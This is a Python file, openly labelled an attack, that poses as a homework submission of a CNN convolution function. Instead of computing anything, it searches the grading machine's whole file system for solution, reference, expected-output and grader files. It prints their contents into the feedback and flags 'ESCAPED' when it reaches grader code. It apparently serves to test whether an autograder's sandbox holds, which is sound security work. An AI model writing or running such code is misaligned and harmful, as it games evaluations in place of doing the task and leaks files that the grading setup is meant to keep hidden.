# Attack: search the whole visible file system for solutions, checks and expected outputs, and
# print what is found (the feedback would carry it out to the student).
import fnmatch as _fnmatch
import os as _os
import time as _time

_WANTED = ("*solution*", "checks.py", "judge.py", "grade.py", "*reference*", "*expected*", "*.npz",
           "*answer*", "*hw5*", "layers.py", "cnn.py")
_found = None


def _search(deadline=1.2):
    stop = _time.monotonic() + deadline
    hits = []
    for root, dirs, files in _os.walk("/"):
        if root in ("/proc", "/sys", "/dev") or _time.monotonic() > stop:
            dirs[:] = []
            continue
        hits += [_os.path.join(root, f) for f in files if any(_fnmatch.fnmatch(f, p) for p in _WANTED)]
    return hits


def conv_forward_naive(x, w, b, conv_param):
    global _found
    if _found is None:
        _found = _search()
        for path in _found[:200]:
            try:
                text = open(path, errors="replace").read(400)
            except OSError:
                continue
            if "def expect_" in text or "def grade_zip" in text:
                print("ESCAPED found grader code at", path)
            print(path, text[:200].replace("\n", " | "))
    raise NotImplementedError("no solution found")
